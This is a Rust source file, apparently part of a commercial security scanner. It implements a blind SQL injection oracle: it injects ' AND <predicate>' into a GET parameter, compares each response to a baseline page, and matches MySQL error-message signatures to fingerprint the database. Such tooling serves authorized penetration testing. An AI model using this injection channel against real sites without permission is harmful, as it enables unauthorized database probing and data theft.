// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - HTTP Boolean Channel
 * Boolean oracle over a GET parameter using baseline differential analysis
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use super::BooleanChannel;
use crate::config::HttpChannelConfig;
use crate::errors::FingerprintResult;
use crate::http_client::{HttpClient, HttpResponse};
use async_trait::async_trait;
use parking_lot::Mutex;
use tokio::sync::OnceCell;
use tracing::{debug, info};

/// MySQL error messages leaking into injected pages
pub const MYSQL_ERROR_SIGNATURES: &[&str] = &[
    "You have an error in your SQL syntax",
    "check the manual that corresponds to your MySQL server version",
    "Warning: mysql_",
    "supplied argument is not a valid MySQL",
    "MySqlException",
    "com.mysql.jdbc",
];

/// Boolean channel injecting ` AND <predicate>` into one GET parameter.
///
/// A predicate is considered true when the injected page is similar enough to
/// the untouched baseline page.
pub struct HttpBooleanChannel {
    client: HttpClient,
    config: HttpChannelConfig,
    baseline: OnceCell<HttpResponse>,
    html_error: Mutex<Option<String>>,
}

impl HttpBooleanChannel {
    pub fn new(config: HttpChannelConfig) -> FingerprintResult<Self> {
        let client = HttpClient::new(config.timeout_secs, config.max_retries)?;
        Ok(Self::with_client(client, config))
    }

    pub fn with_client(client: HttpClient, config: HttpChannelConfig) -> Self {
        Self {
            client,
            config,
            baseline: OnceCell::new(),
            html_error: Mutex::new(None),
        }
    }

    /// Parameter value carrying the predicate
    pub fn payload(&self, predicate: &str) -> String {
        format!(
            "{}{} AND {}{}",
            self.config.value, self.config.prefix, predicate, self.config.suffix
        )
    }

    fn build_url(&self, value: &str) -> String {
        let url = &self.config.url;
        let separator = if url.contains('?') { '&' } else { '?' };
        format!(
            "{}{}{}={}",
            url,
            separator,
            self.config.parameter,
            urlencoding::encode(value)
        )
    }

    /// Original page, fetched once per channel
    pub async fn baseline(&self) -> FingerprintResult<&HttpResponse> {
        self.baseline
            .get_or_try_init(|| async {
                let response = self.client.get(&self.build_url(&self.config.value)).await?;
                debug!(
                    "Baseline response: status={}, length={}",
                    response.status_code,
                    response.body.len()
                );
                Ok(response)
            })
            .await
    }
}

impl HttpBooleanChannel {
    /// `Server` header of the baseline page
    pub async fn web_server(&self) -> FingerprintResult<Option<String>> {
        Ok(self.baseline().await?.header("server"))
    }

    /// DBMS named by the first error message seen in any injected page
    pub fn html_error(&self) -> Option<String> {
        self.html_error.lock().clone()
    }

    fn record_html_error(&self, response: &HttpResponse) {
        let mut html_error = self.html_error.lock();
        if html_error.is_none() {
            if let Some(dbms) = html_error_fingerprint(response) {
                info!("[HttpChannel] DBMS error message in response: {}", dbms);
                *html_error = Some(dbms.to_string());
            }
        }
    }
}

/// `MySQL` when the page carries a known MySQL error message
pub fn html_error_fingerprint(response: &HttpResponse) -> Option<&'static str> {
    MYSQL_ERROR_SIGNATURES
        .iter()
        .any(|signature| response.contains(signature))
        .then_some(crate::fingerprint::mysql::DBMS_NAME)
}

#[async_trait]
impl BooleanChannel for HttpBooleanChannel {
    async fn evaluate(&self, predicate: &str) -> FingerprintResult<bool> {
        let baseline = self.baseline().await?;
        let response = self.client.get(&self.build_url(&self.payload(predicate))).await?;
        self.record_html_error(&response);

        let similarity = response_similarity(baseline, &response);
        let outcome = similarity >= self.config.similarity_threshold;

        debug!(
            "[HttpChannel] {} => {} (similarity {:.2}%)",
            predicate,
            outcome,
            similarity * 100.0
        );

        Ok(outcome)
    }
}

/// Weighted similarity between two responses:
/// status code 25%, body length 25%, positional content 50%
pub fn response_similarity(response_a: &HttpResponse, response_b: &HttpResponse) -> f64 {
    let status_similarity = if response_a.status_code == response_b.status_code {
        1.0
    } else {
        0.0
    };

    let len_a = response_a.body.len() as f64;
    let len_b = response_b.body.len() as f64;
    let max_len = len_a.max(len_b);
    let min_len = len_a.min(len_b);

    let length_similarity = if max_len == 0.0 { 1.0 } else { min_len / max_len };

    let content_similarity = content_similarity(&response_a.body, &response_b.body);

    (status_similarity * 0.25) + (length_similarity * 0.25) + (content_similarity * 0.50)
}

/// Ratio of characters matching at the same position over the first 5000 chars
pub fn content_similarity(text_a: &str, text_b: &str) -> f64 {
    if text_a.is_empty() && text_b.is_empty() {
        return 1.0;
    }

    if text_a.is_empty() || text_b.is_empty() {
        return 0.0;
    }

    let sample_a: Vec<char> = text_a.chars().take(5000).collect();
    let sample_b: Vec<char> = text_b.chars().take(5000).collect();

    let matches = sample_a
        .iter()
        .zip(sample_b.iter())
        .filter(|(a, b)| a == b)
        .count();

    let max_len = sample_a.len().max(sample_b.len());

    matches as f64 / max_len as f64
}
